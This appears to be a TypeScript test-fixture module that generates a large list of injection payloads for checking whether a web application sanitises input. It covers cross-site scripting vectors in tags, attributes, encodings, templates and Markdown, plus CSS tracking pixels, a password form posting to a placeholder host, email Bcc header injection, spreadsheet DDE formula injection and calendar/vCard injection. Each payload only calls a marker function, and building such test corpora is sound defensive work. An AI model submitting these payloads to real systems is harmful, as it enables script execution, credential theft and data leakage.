/** Calls what tells that a script ran, with the number of the payload. */
const run = (number: number) => `__ran(${number})`;

/**
 * Well-known ways to get a script, a style or a foreign address into a page, each with the number that it calls out. What
 * they make of an element carries `data-hostile`, so that it is also seen where nothing runs.
 */
const WAYS: ((call: string) => string)[] = [
  // Tags
  (call) => `<script data-hostile>${call}</script>`,
  (call) => `<ScRiPt data-hostile >${call}</sCrIpT >`,
  (call) => `<script data-hostile src="data:text/javascript,${call}"></script>`,
  (call) => `<script data-hostile src=//elsewhere.example/x.js></script>${call}`,
  (call) => `<img data-hostile src=x onerror=${call}>`,
  (call) => `<img/data-hostile/src=x/onerror=${call}//`,
  (call) => `<IMG data-hostile SRC="x" ONERROR="${call}"`,
  (call) => `<svg data-hostile onload=${call}>`,
  (call) => `<svg data-hostile><script>${call}</script></svg>`,
  (call) => `<svg data-hostile><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg data-hostile><a xlink:href="javascript:${call}"><text x=9 y=9>x</text></a></svg>`,
  (call) =>
    `<svg data-hostile><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${call} /></svg>#x">`,
  (call) =>
    `<math data-hostile><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  (call) => `<math data-hostile href="javascript:${call}">x</math>`,
  (call) => `<body data-hostile onload=${call}>`,
  (call) => `<details data-hostile open ontoggle=${call}>x</details>`,
  (call) => `<input data-hostile autofocus onfocus=${call}>`,
  (call) => `<video data-hostile><source onerror=${call}></video>`,
  (call) => `<audio data-hostile src=x onerror=${call}></audio>`,
  (call) => `<iframe data-hostile src="javascript:${call}"></iframe>`,
  (call) => `<iframe data-hostile srcdoc="<img src=x onerror=parent.${call}>"></iframe>`,
  (call) => `<object data-hostile data="javascript:${call}"></object>`,
  (call) => `<embed data-hostile src="javascript:${call}">`,
  (call) => `<form data-hostile action="javascript:${call}"><button>Go on</button></form>`,
  (call) => `<button data-hostile form=bulk formaction="javascript:${call}">x</button>`,
  () => `<form data-hostile action="https://elsewhere.example/take"><input name=passphrase type=password>`,
  () => `<base data-hostile href="https://elsewhere.example/">`,
  () => `<meta data-hostile http-equiv="refresh" content="0;url=https://elsewhere.example/">`,
  (call) =>
    `<meta data-hostile http-equiv="refresh" content="0;url=data:text/html,<script>${call}</script>">`,
  () => `<link data-hostile rel=stylesheet href=https://elsewhere.example/x.css>`,
  () => `<img data-hostile src=https://elsewhere.example/pixel.gif>`,
  () => `<img data-hostile src='https://elsewhere.example/?`,
  // Out of what it stands in
  (call) => `"><img data-hostile src=x onerror=${call}>`,
  (call) => `'><img data-hostile src=x onerror=${call}>`,
  (call) => `" data-hostile onfocus=${call} autofocus x="`,
  (call) => `' data-hostile onmouseover=${call} style='position:fixed;inset:0' x='`,
  (call) => `\` data-hostile onfocus=${call} autofocus x=\``,
  (call) => `</title><img data-hostile src=x onerror=${call}>`,
  (call) => `</textarea><img data-hostile src=x onerror=${call}>`,
  (call) => `</script><script data-hostile>${call}</script>`,
  (call) => `</style><img data-hostile src=x onerror=${call}>`,
  (call) => `</option></select><img data-hostile src=x onerror=${call}>`,
  (call) => `</noscript><img data-hostile src=x onerror=${call}>`,
  (call) => `--><img data-hostile src=x onerror=${call}><!--`,
  (call) => `]]><img data-hostile src=x onerror=${call}>`,
  (call) => `%><img data-hostile src=x onerror=${call}><%`,
  (call) => `\\"-${call}-\\"`,
  (call) => `'-${call}-'`,
  (call) => `\${${call}}`,
  (call) => `\u2028${call}//`,
  // Written in another way
  (call) => `&lt;img data-hostile src=x onerror=${call}&gt;`,
  (call) => `&#60;img data-hostile src=x onerror=${call}&#62;`,
  (call) => `&amp;lt;img data-hostile src=x onerror=${call}&amp;gt;`,
  (call) => `\\u003cimg data-hostile src=x onerror=${call}\\u003e`,
  (call) => `%3Cimg%20data-hostile%20src=x%20onerror=${call}%3E`,
  (call) => `＜img data-hostile src=x onerror=${call}＞`,
  (call) => `<\u0000img data-hostile src=x onerror=${call}>`,
  (call) => `<img data-hostile src=x onerror\u000b=${call}>`,
  (call) => `\u202e<img data-hostile src=x onerror=${call}>\u202c\u200b\ufeff`,
  // Templates
  (call) => `<%- process.mainModule %><%= "<img data-hostile src=x onerror=${call}>" %>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `#{${call}}{%raw%}[[${call}]]`,
  // Markdown
  (call) => `[x](javascript:${call})`,
  (call) => `[x](JaVaScRiPt&colon;${call} "title")`,
  (call) => `[x](&#106;avascript:${call})`,
  (call) => `[x](\\javascript:${call})`,
  (call) => `[x](<javascript:${call}>)`,
  (call) => `[x](data:text/html,<script>${call}</script>)`,
  (call) => `[x](vbscript:${call})`,
  (call) => `![x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![x"onerror="${call}](https://elsewhere.example/pixel.png)`,
  (call) => `[x][1]\n\n[1]: javascript:${call}`,
  (call) => `<javascript:${call}>`,
  (call) => `[x](https://x.example"onmouseover="${call})`,
  (call) => `[<img data-hostile src=x onerror=${call}>](https://x.example)`,
  (call) =>
    `\`\`\`<img data-hostile src=x onerror=${call}>\n<img data-hostile src=x onerror=${call}>\n\`\`\``,
  (call) => `|a|\n|--|\n|<img data-hostile src=x onerror=${call}>|`,
  (call) => `\n\n    <img data-hostile src=x onerror=${call}>\n\n<div data-hostile>\n\n*x*\n`,
  (call) => `[x](figure:visits"onclick="${call})`,
  // Styles
  () => `<style data-hostile>@import url(https://elsewhere.example/x.css);body{display:none}</style>`,
  () => `x;background:url(https://elsewhere.example/pixel.gif);`,
  () => `}body{background:url(https://elsewhere.example/pixel.gif)}`,
  () => `<b data-hostile style="background:url(https://elsewhere.example/pixel.gif)">x</b>`,
  // Mail and files
  () => `x\r\nBcc: everybody@elsewhere.example\r\nX-Injected: yes\r\n\r\n<b data-hostile>`,
  () => `x\nBcc: everybody@elsewhere.example`,
  () => `"x" <somebody@elsewhere.example>, other@elsewhere.example`,
  () => `=?utf-8?q?=0d=0aBcc:_everybody@elsewhere.example?=`,
  (call) => `=HYPERLINK("https://elsewhere.example","${call}")`,
  () => `@SUM(1+1)*cmd|' /C calc'!A0`,
  () => `END:VCARD\r\nBEGIN:VCARD\r\nFN:Injected`,
  () => `x\r\nEND:VEVENT\r\nATTACH:https://elsewhere.example`,
];

/** Where a field is an address: these begin as one. */
const ADDRESSES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JAVASCRIPT:${call}//https://x.example`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script data-hostile>${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `https://x.example/"onmouseover="${call}`,
  (call) => `https://x.example/'><img data-hostile src=x onerror=${call}>`,
  (call) => `mailto:a@b.example?body="><img data-hostile src=x onerror=${call}>`,
  (call) => `//elsewhere.example/${call}`,
];

/** Each by itself. */
export const PAYLOADS: string[] = [...WAYS, ...ADDRESSES].map((way, index) => way(run(index)));

/** Where there is room for one text alone: all, one after the other, as an address begins. */
export const ALL = [...PAYLOADS.slice(WAYS.length), ...PAYLOADS.slice(0, WAYS.length)].join(" · ");

/** What is typed into forms and addresses: it has to be short, so there are several that each have much in them. */
export const TYPED = [
  `"'></title></textarea></script></style><img data-hostile src=x onerror=__ran(901)> [x](javascript:__ran(905)) <%= 1 %> {{7*7}}`,
  `javascript:__ran(902)//"'\`><svg data-hostile onload=__ran(903)> x" data-hostile onfocus=__ran(904) autofocus y=' &lt;img data-hostile src=x onerror=__ran(906)&gt;`,
];
